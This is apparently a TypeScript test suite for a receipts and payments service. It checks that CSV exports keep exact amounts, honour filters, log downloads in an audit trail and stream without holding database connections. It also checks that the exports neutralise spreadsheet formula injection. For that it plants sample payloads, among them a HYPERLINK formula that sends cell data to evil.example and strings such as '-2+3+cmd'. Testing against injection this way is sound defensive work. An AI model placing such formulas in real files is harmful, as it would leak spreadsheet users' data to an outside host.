import { once } from 'node:events';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestBillpay, type TestBillpay } from '../../../test/support/billpay/billpay.ts';
import { createTestService, type TestService } from '../../../test/support/service.ts';
import { openShop, plainNote, plainReceipt, type Shop } from '../../../test/support/shop.ts';
import { issueToken } from '../tokens/issue-token.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** By the letter of RFC 4180, the header as keys. */
function readCsv(text: string): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const lines: string[][] = [[]];
  for (const [, cell = '', end] of text.slice(1).matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/g)) {
    lines.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') lines.push([]);
  }
  const [header = [], ...rows] = lines.slice(0, -1);
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
  });
}

describe('receipts as CSV', () => {
  let service: TestService;
  let shop: Shop;
  let operator: string;
  const COPIES = 3000;

  beforeAll(async () => {
    service = await createTestService({ timeZone: 'Asia/Kolkata' });
    shop = await openShop(service, {}, { name: '@Shop' });
    operator = (await issueToken(service.pool, { name: 'Tendai', scopes: ['admin'] })).token;
    const hostile = { BuyerName: HYPERLINK, BuyerTIN: '2000000017', Cashier: '-2+3+cmd' };
    for (const receipt of [
      plainReceipt(shop.deviceId, '+C-1', '9999999999999999.99', hostile),
      plainNote(shop.deviceId, 'C-2', '+C-1', '-5.00', { Notes: '\t=1+1;=2+2\nthanks' }),
    ]) {
      const answer = await service.sign(shop.token, receipt);
      expect(answer.statusCode, answer.body).toBe(200);
    }
  });
  afterAll(() => service.close());

  const download = (query = '') => service.get(operator, `/api/admin/receipts.csv${query}`);

  test('have every amount exact, moments in the zone of the installation, and nothing a spreadsheet takes for a formula', async () => {
    const answer = await download();
    expect([answer.statusCode, answer.headers['content-type'], answer.headers['content-disposition']]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      'attachment; filename="receipts-2026-11-15.csv"',
    ]);
    const [note, invoice, ...others] = readCsv(answer.body);
    expect(others).toEqual([]);
    expect(note).toMatchObject({
      Reference: 'C-2',
      Type: 'CreditNote',
      OriginalReference: "'+C-1",
      TotalAmount: '-5.00',
      Notes: "'\t'=1+1;'=2+2\nthanks",
    });
    expect(invoice).toMatchObject({
      SealedAt: '2026-11-15T15:30:00+05:30',
      Taxpayer: "'@Shop",
      Reference: "'+C-1",
      Currency: 'USD',
      TotalAmount: '9999999999999999.99',
      BuyerName: `'${HYPERLINK}`,
      BuyerTIN: '2000000017',
      Cashier: "'-2+3+cmd",
      State: 'Pending',
    });
    const { VerificationCode } = (await service.get(shop.token, '/api/receipt?Reference=%2BC-1')).json().Receipts[0];
    expect(invoice?.['VerificationCode']).toBe(VerificationCode);
  });

  test('follow the filters of the page, and the audit log tells who took which', async () => {
    expect(readCsv((await download('?ReferenceStarts=C-')).body).map((row) => row['Reference'])).toEqual(['C-2']);
    expect(readCsv((await download('?Amount=-5&State=Pending&Buyer=nobody')).body)).toEqual([]);
    for (const wrong of ['?SealedFrom=today', '?Limit=5', '?Refernce=1']) {
      expect((await download(wrong)).statusCode).toBe(400);
    }
    const { Entries } = (await service.get(operator, '/api/admin/audit?Action=receipts.downloaded&Limit=1')).json();
    expect(Entries[0]).toMatchObject({
      Actor: expect.stringContaining('Tendai'),
      Subject: 'receipts',
      After: { Amount: '-5', State: 'Pending', Buyer: 'nobody' },
    });
  });

  test('the audit log is a table too, between two moments and with the names of taxpayers', async () => {
    const body = { Name: 'Baobab' };
    const changed = await service.call(operator, 'PATCH', `/api/admin/taxpayers/${shop.taxpayerId}`, body);
    expect(changed.statusCode, changed.body).toBe(200);
    const log = async (query: string) =>
      readCsv((await service.get(operator, `/api/admin/audit.csv?Action=taxpayer.changed${query}`)).body);
    expect(await log('')).toMatchObject([{ Taxpayer: 'Baobab', Subject: `taxpayer ${shop.taxpayerId}` }]);
    const [entry] = (await service.get(operator, '/api/admin/audit?Action=taxpayer.changed')).json().Entries;
    expect(entry).toMatchObject({ Taxpayer: 'Baobab', After: { Name: 'Baobab' } });
    expect(await log(`&To=${encodeURIComponent(entry.At)}`)).toEqual([]);
    expect(await log(`&From=${encodeURIComponent(entry.At)}`)).toHaveLength(1);
  });

  test('are all there however many, and wait for whoever reads slowly without holding a connection', async () => {
    const { rows } = await service.pool.query<{ name: string }>(
      "select column_name as name from information_schema.columns where table_name = 'receipts'",
    );
    const changed: Readonly<Record<string, string>> = {
      global_counter: 'n',
      fiscal_day_counter: 'n',
      reference: `'M-' || n`,
      sealed_at: `sealed_at + n * interval '1 second'`,
      previous_hash: 'sha256(n::text::bytea)',
      event_number: '-n',
      body: `replace(replace(body, '+C-1', 'M-' || n), '-2+3+cmd', repeat('x', 6000))`,
    };
    const columns = rows.map(({ name }) => name);
    await service.pool.query(
      `insert into receipts (${columns.join(', ')}) select ${columns.map((name) => changed[name] ?? name).join(', ')}
         from receipts cross join generate_series(3, ${COPIES + 2}) n where global_counter = 1`,
    );
    await service.pool.query('analyze receipts');
    const all = readCsv((await download('?ReferenceStarts=M-')).body).map((row) => row['Reference']);
    expect(all).toHaveLength(COPIES);
    expect(all).toEqual(Array.from({ length: COPIES }, (_, index) => `M-${COPIES + 2 - index}`));

    await service.app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = service.app.server.address() as AddressInfo;
    let statements = 0;
    service.pool.on('acquire', () => {
      statements += 1;
    });
    const asked = httpRequest({
      port,
      path: '/api/admin/receipts.csv',
      headers: { authorization: `Bearer ${operator}` },
    });
    const [answer] = (await once(asked.end(), 'response')) as [IncomingMessage];
    answer.on('error', () => {});
    // Nobody reads: it goes on until what lies in between is full, and no further.
    let before = -1;
    await expect
      .poll(
        () => {
          const isStill = statements === before && service.pool.totalCount === service.pool.idleCount;
          before = statements;
          return isStill;
        },
        { interval: 300 },
      )
      .toBe(true);
    expect(statements).toBeLessThan((2 * COPIES) / 400);
    expect([service.pool.totalCount - service.pool.idleCount, service.pool.waitingCount]).toEqual([0, 0]);
    answer.destroy();
    await expect
      .poll(() => new Promise((resolve) => service.app.server.getConnections((_error, count) => resolve(count))))
      .toBe(0);
    expect(statements).toBeLessThan((2 * COPIES) / 400);
  });
});

describe('payments as CSV', () => {
  let billpay: TestBillpay;
  beforeAll(async () => {
    billpay = await createTestBillpay();
    const BillerCode = await billpay.addBiller();
    const pay = (VendorReference: string, Amount: number) =>
      billpay.send('POST', '/api/payment/pay', {
        VendorReference,
        BillerCode,
        MemberNumber: '=1+1',
        Currency: 'USD',
        Amount,
      });
    for (const [reference, amount] of [
      ['@V-1', 12.5],
      ['V-2', 3],
      ['V_3', 4],
    ] as const) {
      billpay.now = new Date(billpay.now.getTime() + 1000);
      const answer = await pay(reference, amount);
      expect(answer.statusCode, answer.body).toBe(200);
    }
  });
  afterAll(() => billpay.close());

  test('have what the page shows, filtered as it is, and nothing a spreadsheet takes for a formula', async () => {
    const rowsOf = async (query: string) => readCsv((await billpay.admin('GET', `/payments.csv${query}`)).body);
    expect((await rowsOf('')).map((row) => row['VendorReference'])).toEqual(['V_3', 'V-2', "'@V-1"]);
    expect((await rowsOf('?VendorReferenceStarts=V_')).map((row) => row['VendorReference'])).toEqual(['V_3']);
    const [first] = await rowsOf('?VendorReference=@V-1');
    expect(first).toMatchObject({
      CreatedAt: '2026-11-15T12:00:01+02:00',
      MemberNumber: "'=1+1",
      Amount: '12.50',
      Status: 'Paid',
    });
  });
});
